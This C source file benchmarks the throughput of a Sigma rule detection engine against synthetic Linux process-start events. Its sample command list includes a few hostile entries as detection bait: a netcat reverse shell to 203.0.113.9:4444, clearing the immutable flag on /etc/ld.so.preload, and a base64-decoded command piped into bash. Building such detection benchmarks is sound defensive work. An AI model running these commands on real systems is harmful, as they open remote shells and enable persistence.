/*
 * detect_bench.c - vig-detect-bench: throughput of the compiled Sigma engine.
 *
 * Builds engines from SigmaHQ's rules and matches synthetic Linux process-start events (a
 * realistic mix of benign command lines with a few malicious ones), and prints events per
 * CPU-second for each engine (best of three rounds), plus the ratio between the largest and the smallest rule count.
 * The rule counts: the first 100 linux rules, all linux rules, and N rules taken from the
 * whole corpus (default 3000, Windows ones included: they share the process_creation fields,
 * so they stress the per-field databases the way a large, mixed rule set does; their product
 * keeps them out of Linux events, so the bench also routes them to a windows logsource).
 *
 * Usage: vig-detect-bench [-d SIGMA_DIR] [-n EVENTS] [-r RULES]
 *   SIGMA_DIR defaults to $VIG_SHARED_DIR/data/sigma, then ../shared/data/sigma.
 */
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "detect/detect.h"

struct collect {
	struct vig_sigma_ruleset rs;
	size_t limit;
	const char *must;    /* path substring required, or NULL */
	bool as_linux;       /* rewrite non-linux process_creation logsources to linux */
};

static struct collect *G;

#define ROUNDS 3 /* match loops per engine; the fastest counts */

static int visit(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	char err[VIG_ERRBUF_SIZE];
	struct vig_sigma_rule *r;
	size_t n = strlen(path);

	if (type != FTW_F || n < 4 || strcmp(path + n - 4, ".yml") != 0 || G->rs.n >= G->limit)
		return 0;
	if (G->must && !strstr(path, G->must))
		return 0;
	r = vig_sigma_load_file(path, NULL, err);
	if (!r)
		return 0;
	if (G->as_linux && r->logsource.category && !strcmp(r->logsource.category, "process_creation"))
		r->logsource.product = "linux";
	vig_sigma_ruleset_add(&G->rs, r);
	return 0;
}

static double cpu_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char *const CMDS[][3] = {
	{"/usr/bin/ls", "ls -la /home/alice/projects", "/usr/bin/bash"},
	{"/usr/bin/git", "git status --porcelain", "/usr/bin/zsh"},
	{"/usr/bin/python3.11", "python3 /opt/app/manage.py runserver 0.0.0.0:8000", "/usr/lib/systemd/systemd"},
	{"/usr/bin/curl", "curl -s https://api.example.com/v1/health -H 'Accept: application/json'", "/usr/bin/bash"},
	{"/usr/sbin/sshd", "sshd: alice [priv]", "/usr/sbin/sshd"},
	{"/usr/bin/grep", "grep -rn TODO src/", "/usr/bin/bash"},
	{"/usr/bin/docker", "docker run --rm -it debian:12 bash", "/usr/bin/bash"},
	{"/usr/bin/find", "find /var/log -name *.gz -mtime +30 -delete", "/usr/sbin/cron"},
	{"/usr/bin/tar", "tar czf /backup/etc-2026.tgz /etc", "/usr/sbin/cron"},
	{"/usr/bin/apt-get", "apt-get install -y --no-install-recommends build-essential", "/usr/bin/sudo"},
	{"/usr/bin/nc", "nc 203.0.113.9 4444 -e /bin/bash", "/usr/bin/bash"},
	{"/usr/bin/chattr", "chattr -i /etc/ld.so.preload", "/usr/bin/bash"},
	{"/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | bash", "/usr/sbin/sshd"},
	{"/usr/bin/make", "make -j8 all", "/usr/bin/bash"},
	{"/usr/bin/systemctl", "systemctl status nginx.service", "/usr/bin/bash"},
	{"/usr/bin/vim", "vim /etc/nginx/nginx.conf", "/usr/bin/bash"},
};

static double bench(struct vig_sigma_ruleset *rs, size_t n_events, const char *label, size_t *n_rules)
{
	char err[VIG_ERRBUF_SIZE];
	struct vig_detect_engine *eng;
	struct vig_detect_scratch *s;
	struct vig_detect_stats st;
	struct vig_detect_counters cn;
	struct vig_arena arena;
	struct vig_event ev;
	size_t matched = 0, m;
	double t0, t1 = 0, t, build;

	t0 = cpu_now();
	eng = vig_detect_build(rs, err);
	build = cpu_now() - t0;
	if (!eng) {
		fprintf(stderr, "build failed: %s\n", err);
		exit(1);
	}
	vig_detect_get_stats(eng, &st);
	*n_rules = st.detection_rules;
	s = vig_detect_scratch_new(eng, err);
	if (!s) {
		fprintf(stderr, "scratch: %s\n", err);
		exit(1);
	}
	vig_arena_init(&arena, 8192, 1 << 20);
	vig_event_init(&ev, &arena);
	/* Best of ROUNDS rounds: the machine is shared, the best round is the least disturbed. */
	for (int round = 0; round < ROUNDS; round++) {
		matched = 0;
		t0 = cpu_now();
		for (size_t i = 0; i < n_events; i++) {
			const char *const *c = CMDS[i % (sizeof(CMDS) / sizeof(CMDS[0]))];
			char pid[32];
			vig_arena_reset(&arena);
			vig_event_clear(&ev);
			vig_event_set_cstr(&ev, VIG_F_EVENT_CATEGORY, "process");
			vig_event_set_cstr(&ev, VIG_F_EVENT_TYPE, "start");
			vig_event_set_cstr(&ev, VIG_F_AGENT_ID, "bench-agent");
			vig_event_set_cstr(&ev, VIG_F_HOST_NAME, "web-01");
			vig_event_set_cstr(&ev, VIG_F_PROCESS_EXECUTABLE, c[0]);
			vig_event_set_cstr(&ev, VIG_F_PROCESS_NAME, strrchr(c[0], '/') + 1);
			vig_event_set_cstr(&ev, VIG_F_PROCESS_COMMAND_LINE, c[1]);
			vig_event_set_cstr(&ev, VIG_F_PROCESS_PARENT_EXECUTABLE, c[2]);
			vig_event_set_cstr(&ev, VIG_F_PROCESS_WORKING_DIRECTORY, "/home/alice");
			vig_event_set_cstr(&ev, VIG_F_USER_NAME, "alice");
			snprintf(pid, sizeof(pid), "%zu", 1000 + i);
			vig_event_set_text(&ev, VIG_F_PROCESS_PID, pid, strlen(pid));
			if (vig_detect_match(eng, s, &ev, NULL, NULL, &m) != VIG_OK) {
				fprintf(stderr, "match failed\n");
				exit(1);
			}
			matched += m;
		}
		t = cpu_now() - t0;
		t1 = round == 0 ? t : VIG_MIN(t1, t);
	}
	vig_detect_scratch_counters(s, &cn);
	printf("%-34s rules=%5zu tests=%6zu hs_db=%3zu pcre=%3zu build=%6.2fs  %10.0f events/cpu-s  "
	       "(%zu matches per round, %.1f groups and %.1f rules evaluated per event)\n",
	       label, st.detection_rules, st.atoms, st.hs_databases, st.pcre_patterns, build,
	       (double)n_events / t1, matched, (double)cn.groups / (double)cn.events,
	       (double)cn.evaluated / (double)cn.events);
	vig_arena_release(&arena);
	vig_detect_scratch_free(s);
	vig_detect_free(eng);
	return (double)n_events / t1;
}

static void collect_rules(struct collect *c, const char *base, const char *must, size_t limit, bool as_linux)
{
	static const char *const dirs[] = {"rules", "rules-emerging-threats", "rules-threat-hunting"};
	char p[1200];

	memset(c, 0, sizeof(*c));
	vig_sigma_ruleset_init(&c->rs, 0);
	c->limit = limit;
	c->must = must;
	c->as_linux = as_linux;
	G = c;
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		snprintf(p, sizeof(p), "%s/%s", base, dirs[i]);
		nftw(p, visit, 16, FTW_PHYS);
	}
}

int main(int argc, char **argv)
{
	const char *dir = NULL;
	char def[1024];
	size_t n_events = 200000, n_big = 3000, r_small, r_big;
	struct collect c;
	double small, big;
	int opt;

	while ((opt = getopt(argc, argv, "d:n:r:")) != -1) {
		if (opt == 'd')
			dir = optarg;
		else if (opt == 'n')
			n_events = (size_t)atol(optarg);
		else if (opt == 'r')
			n_big = (size_t)atol(optarg);
		else {
			fprintf(stderr, "usage: %s [-d SIGMA_DIR] [-n EVENTS] [-r RULES]\n", argv[0]);
			return 2;
		}
	}
	if (!dir) {
		const char *sh = getenv("VIG_SHARED_DIR");
		snprintf(def, sizeof(def), "%s/data/sigma", sh ? sh : "../shared");
		dir = def;
	}
	collect_rules(&c, dir, "/linux/process_creation/", 100, false);
	small = bench(&c.rs, n_events, "linux process_creation (first 100)", &r_small);
	collect_rules(&c, dir, "/linux/", SIZE_MAX, false);
	bench(&c.rs, n_events, "all linux rules", &r_big);
	collect_rules(&c, dir, NULL, n_big, true);
	big = bench(&c.rs, n_events, "N corpus rules, process_creation->linux", &r_big);
	printf("throughput ratio %zu rules / %zu rules: %.2f (1.0 = cost independent of rule count)\n", r_big,
	       r_small, big / small);
	return 0;
}
